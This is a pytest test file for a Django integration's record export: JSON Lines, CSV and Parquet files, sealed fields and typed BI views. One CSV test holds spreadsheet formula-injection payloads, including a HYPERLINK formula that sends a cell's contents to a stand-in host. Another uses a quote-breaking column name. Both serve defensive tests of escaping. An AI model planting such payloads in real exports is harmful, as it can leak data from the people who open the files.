"""Exports as files, each change in one of them, and typed views for BI tools."""

from __future__ import annotations

import csv
import json
import sys
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from integrations.core.models import AuditEntry
from integrations.sync import records
from integrations.sync.export import file_formats, parts
from integrations.sync.models import Plan, Record
from integrations.tenants.models import App
from tests.sync.conftest import LOCATION
from tests.sync.feed.test_feed import settle

FIELD = {"id": "f1", "name": "Birthday plan"}
ANN = {
    "id": "ann",
    "email": "ann@example.com",
    "dnd": True,
    "tags": ["vip", "é,\n"],
    "customFields": [{"id": "f1", "value": "cake"}],
    "dateAdded": "2026-01-02T03:04:05.000Z",
    "newlyInvented": {"a": 1},
}


@pytest.fixture
def filled(plan: Plan) -> App:
    records.merge(plan.app_id, LOCATION, "custom_fields", [FIELD])
    records.merge(plan.app_id, LOCATION, "contacts", [ANN, {"id": "bob", "dnd": "odd", "dateAdded": "soon"}])
    Plan.objects.create(app=plan.app, location_id=LOCATION, resource="custom_fields", created_at=plan.created_at)
    settle(1)
    return plan.app


def export(app: App, folder: Path, form: str = "jsonl", **options: Any) -> list[Path]:
    return [part.path for part in parts.export(app, "export", "contacts", form=form, folder=folder, **options)]


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_json_lines_have_every_change_once(filled: App, tmp_path: Path) -> None:
    (first,) = export(filled, tmp_path)
    ann, bob = lines(first)
    assert (ann["id"], ann["change"], ann["dnd"], ann["custom: Birthday plan"]) == ("ann", "added", True, "cake")
    assert ann["other"] == {"newlyInvented": {"a": 1}}, "nothing that the vendor sends is lost"
    assert bob["id"] == "bob"
    assert export(filled, tmp_path) == []
    records.merge(filled.pk, LOCATION, "contacts", [{"id": "bob", "firstName": "Bob"}])
    settle(2)
    (second,) = export(filled, tmp_path)
    assert [(row["id"], row["change"]) for row in lines(second)] == [("bob", "updated")]
    assert (first.name, second.name) == ("contacts-00000001.jsonl", "contacts-00000002.jsonl")


def test_an_export_that_died_writes_its_file_anew(filled: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(_: int) -> None:
        raise OSError("disk is full")

    monkeypatch.setattr(parts.os, "fsync", fail)
    with pytest.raises(OSError, match="disk"):
        export(filled, tmp_path)
    monkeypatch.undo()
    assert not list(tmp_path.glob("*.jsonl"))
    files = export(filled, tmp_path, largest=1)
    assert [row["id"] for path in files for row in lines(path)] == ["ann", "bob"]
    assert sorted(tmp_path.iterdir()) == files


def test_csv(filled: App, tmp_path: Path) -> None:
    (path,) = export(filled, tmp_path, "csv")
    with path.open(newline="") as file:
        ann, bob = csv.DictReader(file)
    assert (ann["email"], ann["dnd"], json.loads(ann["tags"])) == ("ann@example.com", "true", ANN["tags"])
    assert (bob["email"], bob["custom: Birthday plan"]) == ("", "")


def test_in_csv_no_text_of_a_form_becomes_a_formula(plan: Plan, tmp_path: Path) -> None:
    texts = {
        "firstName": '=HYPERLINK("http://x.example/"&A1)',
        "lastName": " @SUM(1)",
        "city": "＝1",
        "address1": "-1+cmd",
    }
    numbers = {"phone": "+1 (555) 010-7788", "postalCode": "-5"}
    records.merge(plan.app_id, LOCATION, "contacts", [{"id": "eve", **texts, **numbers}])
    settle(1)
    (path,) = export(plan.app, tmp_path, "csv")
    with path.open(newline="") as file:
        (eve,) = csv.DictReader(file)
    assert {name: eve[name] for name in texts} == {name: f"'{text}" for name, text in texts.items()}
    assert {name: eve[name] for name in numbers} == numbers, "a number calls nothing, and other programs read it"


def test_parquet(filled: App, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    (path,) = export(filled, tmp_path, "parquet")
    ann, bob = parquet.read_table(path).to_pylist()
    assert (ann["email"], ann["dnd"], bob["dnd"]) == ("ann@example.com", True, None)


def test_parquet_without_pyarrow_says_what_to_install(
    filled: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(file_formats.BadRequest, match="pip install"):
        export(filled, tmp_path, "parquet")


def test_sealed_fields_stay_sealed_unless_the_command_opens_them(plan: Plan, tmp_path: Path, settings: Any) -> None:
    settings.SEALED_FIELDS = ["contacts.email"]
    records.merge(plan.app_id, LOCATION, "contacts", [ANN])
    settle(1)
    output = StringIO()
    options = ["contacts", "--to", str(tmp_path), "--app", plan.app.highlevel_id]
    call_command("records", "export", *options, stdout=output)
    assert "1 changes of contacts" in output.getvalue()
    call_command("records", "export", *options, "--open", "--restart", stdout=output)
    closed, opened = sorted(tmp_path.iterdir())
    assert ["email" in lines(path)[0] for path in (closed, opened)] == [False, True]
    details = [entry.detail["opened"] for entry in AuditEntry.objects.filter(action="records.exported").order_by("pk")]
    assert details == [False, True]
    call_command("records", "views", stdout=output)
    assert rows("SELECT email, payload ? 'email' FROM bi.contacts") == [(None, False)]


def rows(query: str) -> list[tuple[Any, ...]]:
    with connection.cursor() as cursor:
        cursor.execute(query)
        return cursor.fetchall()


def test_views_are_typed_and_renewed(filled: App) -> None:
    output = StringIO()
    call_command("records", "views", "--schema", "bi", stdout=output)
    assert "2 views in bi: contacts, custom_fields" in output.getvalue()
    found = rows('SELECT id, email, dnd, "dateAdded"::text, "Birthday plan" FROM bi.contacts ORDER BY id')
    assert found[0][:3] == ("ann", "ann@example.com", True)
    assert found[0][3].startswith("2026-01-02")
    assert (found[0][4], found[1]) == ("cake", ("bob", None, None, None, None))
    Record.objects.filter(resource="custom_fields").update(payload={**FIELD, "name": 'dnd" or Email' + "é" * 60})
    call_command("records", "views", stdout=output)
    columns = [name for (name,) in rows("SELECT attname FROM pg_attribute WHERE attrelid = 'bi.contacts'::regclass")]
    assert "Birthday plan" not in columns
    assert [name for name in columns if name.startswith('dnd" or')]
    with pytest.raises(CommandError, match="did not make"):
        call_command("records", "views", "--schema", "public", stdout=output)
